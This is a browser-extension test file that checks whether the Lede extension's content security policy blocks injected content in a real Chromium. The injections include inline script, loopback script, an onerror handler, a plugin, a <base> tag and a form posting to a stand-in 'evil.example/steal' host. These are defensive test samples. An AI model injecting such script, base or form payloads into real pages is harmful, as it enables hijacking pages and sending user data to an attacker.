/**
 * The extension pages' content security policy (wxt.config.ts), enforced by a real Chromium:
 * markup that reaches a Lede page cannot run inline script or script from anywhere else, load a
 * plugin, re-point relative URLs with <base> or submit a form; and the pages themselves still load
 * and work under it. Chrome enforces its MV3 default policy beside Lede's, so every check waits for
 * a report from Lede's own policy: with the default alone (the old build) none comes.
 */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type LoadedExtension, launchExtension } from './support/extension';
import { type FixtureServer, startFixtureServer } from './support/fixture-server';
import { openPopupFor, serveDemo, settledState } from './support/reader';

/** Lede's policy, as wxt.config.ts sets it. */
const LEDE_CSP = "script-src 'self'; object-src 'none'; base-uri 'none'; form-action 'none'";

let server: FixtureServer;
let ext: LoadedExtension;
/** CSP complaints in the console of any page. */
const complaints: string[] = [];

beforeAll(async () => {
  server = await startFixtureServer();
  server.route('/evil.js', (_req, res) => {
    res.writeHead(200, { 'content-type': 'text/javascript' });
    res.end('window.__ran = true;');
  });
  ext = await launchExtension();
  ext.context.on('page', (page) =>
    page.on('console', (msg) => {
      if (/Content Security Policy|Refused to/i.test(msg.text()))
        complaints.push(`${page.url()}: ${msg.text()}`);
    }),
  );
});

afterAll(async () => {
  await ext?.close();
  await server?.close();
});

type Probe = { __violations: string[]; __ran: boolean };

/**
 * Runs `inject(arg)` in a Lede page and waits until Lede's policy reports a violation of
 * `directive` (some loads start a little later); returns whether script ran and the document's
 * base URL then. Without Lede's policy no such report comes and the wait times out.
 */
async function blocked(
  page: Page,
  inject: (arg: string) => void,
  directive: string,
  arg = '',
): Promise<{ ran: boolean; baseURI: string }> {
  await page.evaluate(() => {
    const w = window as unknown as Probe;
    if (!w.__violations)
      document.addEventListener('securitypolicyviolation', (e) =>
        w.__violations.push(`${e.effectiveDirective} | ${e.originalPolicy}`),
      );
    w.__violations = [];
    w.__ran = false;
  });
  await page.evaluate(inject, arg);
  await page.waitForFunction(
    (expected) => (window as unknown as Probe).__violations.includes(expected),
    `${directive} | ${LEDE_CSP}`,
    { timeout: 10_000 },
  );
  return page.evaluate(() => ({ ran: (window as unknown as Probe).__ran, baseURI: document.baseURI }));
}

test('inline script, loopback script, a handler, a plugin, a <base> and a form do nothing in a Lede page', async () => {
  const page = await ext.openExtensionPage('library.html');
  await page.locator('#app *').first().waitFor();

  const inline = await blocked(
    page,
    () => {
      const s = document.createElement('script');
      s.textContent = 'window.__ran = true';
      document.body.append(s);
    },
    'script-src-elem',
  );
  expect(inline.ran).toBe(false);

  // Chrome's MV3 default allows scripts from loopback hosts (for development); Lede's does not.
  const loopback = await blocked(
    page,
    (origin) => {
      const s = document.createElement('script');
      s.src = `${origin}/evil.js`;
      document.body.append(s);
    },
    'script-src-elem',
    server.origin,
  );
  expect(loopback.ran).toBe(false);

  const handler = await blocked(
    page,
    () => {
      const i = document.createElement('img');
      i.setAttribute('onerror', 'window.__ran = true');
      i.src = 'x:';
      document.body.append(i);
    },
    'script-src-attr',
  );
  expect(handler.ran).toBe(false);

  await blocked(
    page,
    () => {
      const o = document.createElement('object');
      o.data = 'https://evil.example/plugin.swf';
      document.body.append(o);
    },
    'object-src',
  );

  const base = await blocked(
    page,
    () => {
      const b = document.createElement('base');
      b.href = 'https://evil.example/';
      document.head.prepend(b);
    },
    'base-uri',
  );
  expect(base.baseURI.startsWith(`chrome-extension://${ext.extensionId}/`)).toBe(true);

  await blocked(
    page,
    () => {
      const f = document.createElement('form');
      f.action = 'https://evil.example/steal';
      f.method = 'post';
      document.body.append(f);
      f.requestSubmit();
    },
    'form-action',
  );
  expect(page.url().startsWith(`chrome-extension://${ext.extensionId}/library.html`)).toBe(true);
  await page.close();
});

test('under that policy the popup, the full-tab reader and the library load and work, with no CSP complaint', async () => {
  complaints.length = 0;
  const { article, popup } = await openPopupFor(ext, serveDemo(server));
  expect(await settledState(popup)).toBe('ready');
  const tabId = await ext.tabIdOf(article);
  const reader = await ext.openExtensionPage(`reader.html?tab=${tabId}`);
  expect(await settledState(reader)).toBe('ready');
  const library = await ext.openExtensionPage('library.html');
  await library.getByTestId('library-empty').waitFor();
  expect(complaints).toEqual([]);
  await Promise.all([popup.close(), reader.close(), library.close(), article.close()]);
});
